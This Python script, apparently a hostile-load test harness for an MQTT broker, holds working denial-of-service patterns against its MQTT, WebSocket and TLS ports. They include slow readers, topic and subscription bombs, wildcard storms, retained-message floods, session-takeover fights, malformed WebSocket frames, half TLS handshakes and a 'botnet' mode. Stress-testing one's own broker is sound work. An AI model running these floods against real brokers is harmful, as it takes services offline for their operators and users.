#!/usr/bin/env python3
"""attacks.py NAME --mqtt PORT --http PORT --mqtts PORT [--scale F]: one attack, until SIGTERM; then one line of JSON says what it did."""
import argparse
import itertools
import json

import packets
from botnet import botnet
from engine import Engine, Peer

FLOOD = "hostile/flood"
LOUD = 1 << 14  # bytes that a loud peer hands out at a time


def endless(block):
    return lambda _: block


def filled(block):
    """A portion made of whole copies of the block."""
    return block * max(1, LOUD // len(block))


def acknowledged_publishes(topic, payload, window=50):
    """QoS 1 with a window: PUBACKs are four bytes, and with a reason a little more."""
    block = b"".join(packets.publish(topic, payload, 1, number + 1) for number in range(window))

    def more(peer):
        if peer.credit > 0:
            return None
        peer.credit = window * 4
        return block

    def on_data(peer, data):
        peer.credit -= len(data)

    return {"more": more, "on_data": on_data}


def slow_readers(ports, scale):
    """Subscribers with a small window that never read, of a topic that is published to as fast as it goes, QoS 0 and 1."""
    for number in range(int(50 * scale)):
        first = packets.connect(f"slow-{number}") + packets.subscribe([f"{FLOOD}/{number % 2}"], number % 2)
        yield Peer(ports.mqtt, first, reads=False, window=2048)
    payload = b"f" * 1024
    yield Peer(ports.mqtt, packets.connect("loud-0"), endless(filled(packets.publish(f"{FLOOD}/0", payload))))
    yield Peer(ports.mqtt, packets.connect("loud-1"), **acknowledged_publishes(f"{FLOOD}/1", payload))


def unread_answers(ports, scale):
    """Clients that ask and never read: PINGREQ, SUBSCRIBE, QoS 1 and 2 PUBLISH, and requests to the WebSocket."""
    questions = [packets.PINGREQ, packets.subscribe([f"hostile/ask/{n}" for n in range(20)]), packets.unsubscribe(["hostile/ask/0"] * 20)]
    for number in range(int(30 * scale)):
        question = filled(questions[number % len(questions)]) * 8
        yield Peer(ports.mqtt, packets.connect(f"deaf-{number}"), endless(question), reads=False, window=2048)


def no_connect(ports, scale):
    """Connections that never send CONNECT, and that come back when they are ended."""
    for _ in range(int(10_000 * scale)):
        yield Peer(ports.mqtt)


def topic_bombs(ports, scale):
    """Too many levels, topics of 65,535 bytes, SUBSCRIBEs with very many filters."""
    deep = "/".join(["d"] * 200)
    long = "l" * 65_535
    levels = "/".join(["+"] * 128)
    many = packets.subscribe(["/".join("+" if number >> bit & 1 else "m" for bit in range(14)) for number in range(1000)])
    short = packets.subscribe([f"{number:x}" for number in range(100_000)])
    bombs = [packets.publish(deep), packets.subscribe([deep]), packets.publish(long) * 4, packets.subscribe([long[:65_000]]),
             packets.subscribe([levels, levels + "/#", "#", "+/#"]), many, short, packets.subscribe(["a/" * 30_000 + "#"])]
    for number in range(max(len(bombs), int(40 * scale))):
        yield Peer(ports.mqtt, packets.connect(f"bomb-{number}"), endless(bombs[number % len(bombs)]))


def wildcard_storm(ports, scale):
    """10,000 wildcard subscriptions over 100 clients that match one topic, which is published to as fast as it goes, and its
    neighbours, so that no route is found twice."""
    levels = 12
    filters = ["storm/" + "/".join("+" if number >> bit & 1 else "s" for bit in range(levels)) for number in range(1 << levels)]
    for number in range(int(100 * scale)):
        mine = [filters[(number * 100 + k) % len(filters)] for k in range(100)]
        yield Peer(ports.mqtt, packets.connect(f"storm-{number}") + packets.subscribe(mine))
    for number in range(4):
        topics = ["storm/" + "/".join("s" if (k + number) % 50 else f"s{k}" for _ in range(levels)) for k in range(64)]
        yield Peer(ports.mqtt, packets.connect(f"gale-{number}"), endless(b"".join(packets.publish(topic) for topic in topics)))


def subscribe_churn(ports, scale):
    """Subscribe and unsubscribe without an end: 1000 filters at a time."""
    for number in range(int(20 * scale) or 1):
        filters = [f"churn/{number}/{'+/' * (k % 7)}{k}" for k in range(1000)]
        block = packets.subscribe(filters) + packets.unsubscribe(filters)
        yield Peer(ports.mqtt, packets.connect(f"churn-{number}"), endless(block))


def retained_flood(ports, scale):
    """A million retained topics are tried; meanwhile subscribers of `#` ask for all of them again and again, half of them deaf."""
    most = int(1_000_000 * scale)
    counter = itertools.count()

    def more(_):
        numbers = list(itertools.islice(counter, 200))
        return b"".join(packets.publish(f"retained/{n % most:x}/value", b"r" * 64, retain=True) for n in numbers)

    for number in range(4):
        yield Peer(ports.mqtt, packets.connect(f"hoard-{number}"), more)
    for number in range(10):
        again = packets.subscribe(["#", "retained/#", "+/+/value"], number // 5)
        yield Peer(ports.mqtt, packets.connect(f"greedy-{number}"), endless(again), reads=number % 2 == 0)


def takeover(ports, scale):
    """Hundreds of connections that fight for ten client ids with lasting sessions, into which messages come all the while."""
    for number in range(int(300 * scale)):
        name = f"wanted-{number % 10}"
        first = packets.connect(name, clean=False, expiry=3600) + packets.subscribe([f"{FLOOD}/{number % 10}"], 1)
        yield Peer(ports.mqtt, first)
    for number in range(10):
        yield Peer(ports.mqtt, packets.connect(f"feeder-{number}"), **acknowledged_publishes(f"{FLOOD}/{number}", b"q" * 256, 10))


def websocket_bombs(ports, scale):
    """Compressed frames although compression was declined, pings, frames of a byte, empty fragments without an end."""
    hello = packets.UPGRADE + packets.frame(packets.connect("ws"))
    nothing = b"\x63\x60\x18\x05\xa3\x60\x14\x8c\x54\0\0" * 90  # what deflate makes of zeros, about
    floods = [packets.frame(nothing, reserved=4), packets.frame(b"p" * 125, opcode=9), packets.frame(packets.PINGREQ[:1]) + packets.frame(packets.PINGREQ[1:]),
              packets.frame(b"", final=False) + packets.frame(b"", opcode=0, final=False) * 2000, packets.frame(b"t" * 1000, opcode=1)]
    for number in range(max(len(floods), int(40 * scale))):
        flood = filled(floods[number % len(floods)])
        yield Peer(ports.http, hello, endless(flood), reads=number % 10 < 5)


def half_handshakes(ports, scale):
    """A ClientHello that ends in the middle, and nothing more."""
    for _ in range(int(3000 * scale)):
        yield Peer(ports.mqtts, bytes.fromhex("16030100c8010000c40303") + b"h" * 40)


ATTACKS = {function.__name__: function for function in (slow_readers, unread_answers, no_connect, topic_bombs, wildcard_storm, subscribe_churn,
                                                        retained_flood, takeover, websocket_bombs, half_handshakes)}


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("name", choices=[*ATTACKS, "botnet"])
    for port in ("mqtt", "http", "mqtts"):
        parser.add_argument(f"--{port}", type=int, required=True)
    parser.add_argument("--scale", type=float, default=1)
    arguments = parser.parse_args()
    engine = Engine()
    if arguments.name == "botnet":
        engine.add(*botnet(arguments, arguments.scale, engine.counts))
    else:
        engine.add(*ATTACKS[arguments.name](arguments, arguments.scale))
    engine.run()
    print(json.dumps(engine.counts), flush=True)


if __name__ == "__main__":
    main()
